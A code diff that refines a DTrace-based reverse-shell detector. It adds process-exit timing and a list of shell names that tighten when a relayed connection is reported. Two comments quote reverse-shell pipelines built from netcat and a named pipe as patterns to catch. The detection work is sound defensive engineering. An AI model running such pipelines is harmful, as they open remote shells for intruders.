@@ -59,7 +59,10 @@ uintptr_t input[uintptr_t];
 uintptr_t commanded[uintptr_t];
 /* ... and how many programs have had it so since. */
 int started[uintptr_t];
-int alive[pid_t];
+uintptr_t alive[pid_t];
+/* When the program ended: what another writes to a pipe of the same address later is not its answer. */
+uint64_t ended[uintptr_t];
+int isShell[uintptr_t];
 /* By channel: the connection that is passed on to it, whether it was made from here, and how often in turn with what came back. */
 uintptr_t fed[uintptr_t];
 int made[uintptr_t];
@@ -188,20 +191,29 @@ socket:::receive
 }
 
 proc:::exec-success
-/args[2] != 0 && program[args[2]] != 0 && program[args[2]] != pid && alive[program[args[2]]]/
+/args[2] != 0 && program[args[2]] != 0 && program[args[2]] != pid && alive[program[args[2]]] == args[2]/
 {
 	started[args[2]]++;
 }
 
 proc:::exec-success
-/args[2] != 0 && (program[args[2]] == 0 || program[args[2]] == pid || !alive[program[args[2]]])/
+/args[2] != 0 && (program[args[2]] == 0 || program[args[2]] == pid || alive[program[args[2]]] != args[2])/
 {
+	isShell[args[2]] = program[args[2]] == pid && isShell[args[2]] ||
+	    strstr(" sh bash dash ash zsh ksh mksh fish busybox ", strjoin(" ", strjoin(execname, " "))) != NULL;
 	program[args[2]] = pid;
+	ended[args[2]] = 0;
 	name[args[2]] = execname;
 	input[args[2]] = args[1];
 	started[args[2]] = 1;
 	commanded[args[2]] = heard[ppid] != 0 && timestamp - heardAt[ppid] < 1000000000 ? heard[ppid] : 0;
-	alive[pid] = 1;
+	alive[pid] = args[2];
+}
+
+proc:::exit
+/alive[pid] && program[alive[pid]] == pid/
+{
+	ended[alive[pid]] = timestamp;
 }
 
 proc:::exit
@@ -240,7 +252,7 @@ socket:::relayed
 
 /* What a program wrote to a channel was sent: a shell may have the first word. */
 socket:::relayed
-/args[2] == 1 && program[args[3]] != pid && input[args[3]] != 0/
+/args[2] == 1 && program[args[3]] != pid && (ended[args[3]] == 0 || timestamp - ended[args[3]] < 1000000000) && input[args[3]] != 0/
 {
 	answered[input[args[3]]] = args[0]->so_address;
 	exact[input[args[3]]] = args[1] == args[4] && (fed[input[args[3]]] != args[0]->so_address || exact[input[args[3]]]);
@@ -254,7 +266,7 @@ socket:::relayed
 }
 
 socket:::relayed
-/args[2] == 1 && outgoing[args[0]->so_address] && program[args[3]] != pid && input[args[3]] != 0
+/args[2] == 1 && outgoing[args[0]->so_address] && program[args[3]] != pid && (ended[args[3]] == 0 || timestamp - ended[args[3]] < 1000000000) && input[args[3]] != 0
     && fed[input[args[3]]] == args[0]->so_address && (exact[input[args[3]]] || rounds[input[args[3]]] > 0)/
 {
 	finding("%s passes what %s port %d sends, on a connection that was made from here, to %s (process %d), and sends what that answers",
@@ -262,7 +274,7 @@ socket:::relayed
 }
 
 socket:::relayed
-/args[2] == 1 && accepted[args[0]->so_address] && program[args[3]] != pid && input[args[3]] != 0
+/args[2] == 1 && accepted[args[0]->so_address] && program[args[3]] != pid && (ended[args[3]] == 0 || timestamp - ended[args[3]] < 1000000000) && input[args[3]] != 0
     && answered[input[args[3]]] == args[0]->so_address && exact[input[args[3]]] && rounds[input[args[3]]] > 0 && started[args[3]] > 2/
 {
 	finding("%s passes what %s sends, on a connection that it made to port %d, to %s (process %d), and sends what that answers",
@@ -271,7 +283,7 @@ socket:::relayed
 
 /* `cat fifo | sh | nc ADDRESS PORT > fifo`: who reads the named pipe is not the shell, but who writes what the shell reads. */
 socket:::relayed
-/args[2] == 1 && outgoing[args[0]->so_address] && named[args[0]->so_address] != 0 && program[args[3]] != pid && input[args[3]] != 0
+/args[2] == 1 && outgoing[args[0]->so_address] && named[args[0]->so_address] != 0 && program[args[3]] != pid && (ended[args[3]] == 0 || timestamp - ended[args[3]] < 1000000000) && input[args[3]] != 0
     && input[args[3]] != named[args[0]->so_address] && program[input[args[3]]] != 0/
 {
 	finding("%s passes what %s port %d sends, on a connection that was made from here, to a named pipe, and sends what %s (process %d) answers to %s",
@@ -279,7 +291,7 @@ socket:::relayed
 }
 
 socket:::relayed
-/args[2] == 1 && accepted[args[0]->so_address] && named[args[0]->so_address] != 0 && program[args[3]] != pid && input[args[3]] != 0
+/args[2] == 1 && accepted[args[0]->so_address] && named[args[0]->so_address] != 0 && program[args[3]] != pid && (ended[args[3]] == 0 || timestamp - ended[args[3]] < 1000000000) && input[args[3]] != 0
     && input[args[3]] != named[args[0]->so_address] && program[input[args[3]]] != 0 && rounds[named[args[0]->so_address]] > 0
     && exact[named[args[0]->so_address]] && started[args[3]] > 2/
 {
@@ -289,17 +301,20 @@ socket:::relayed
 
 /* `nc A | sh | nc B`: the orders come by another connection than that by which the answers go. */
 socket:::relayed
-/args[2] == 1 && outgoing[args[0]->so_address] && program[args[3]] != pid && input[args[3]] != 0 && fed[input[args[3]]] != 0
+/args[2] == 1 && outgoing[args[0]->so_address] && program[args[3]] != pid && (ended[args[3]] == 0 || timestamp - ended[args[3]] < 1000000000) && input[args[3]] != 0 && fed[input[args[3]]] != 0
     && fed[input[args[3]]] != args[0]->so_address && made[input[args[3]]] && started[args[3]] > 1/
 {
 	finding("%s sends to %s port %d, on a connection that was made from here, what %s (process %d) answers to what comes by another",
 	    execname, args[0]->so_raddr, args[0]->so_rport, name[args[3]], program[args[3]]);
 }
 
-/* A program was started when something had come, and all that is sent is what it wrote. */
+/*
+ * A program was started when something had come, and all that is sent is what it wrote: a shell, or one that was given no input, which would be
+ * what had come.
+ */
 socket:::relayed
-/args[2] == 1 && outgoing[args[0]->so_address] && program[args[3]] != pid && commanded[args[3]] == args[0]->so_address
-    && args[1] == args[4]/
+/args[2] == 1 && outgoing[args[0]->so_address] && program[args[3]] != pid && (ended[args[3]] == 0 || timestamp - ended[args[3]] < 1000000000) && commanded[args[3]] == args[0]->so_address
+    && args[1] == args[4] && (isShell[args[3]] || input[args[3]] == 0)/
 {
 	finding("%s started %s (process %d) when %s port %d had sent something, on a connection that was made from here, and sends what that writes",
 	    execname, name[args[3]], program[args[3]], args[0]->so_raddr, args[0]->so_rport);
